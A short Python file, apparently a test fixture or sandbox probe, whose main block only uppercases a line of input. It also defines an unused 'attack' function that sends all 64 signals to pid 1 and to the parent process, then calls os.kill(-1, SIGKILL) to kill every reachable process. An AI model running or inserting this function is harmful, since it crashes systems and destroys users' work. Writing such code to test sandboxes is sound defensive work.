"""Sends every signal to pid 1, to its parent, to the group and to everything."""

import os
import signal
import sys


def double(number):
    return 2 * number


def attack(key):
    sent = 0
    for number in range(1, 65):
        for target in (1, os.getppid()):
            try:
                os.kill(target, number)
            except OSError:
                continue
            sent += 1
    os.kill(-1, signal.SIGKILL)
    return sent


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
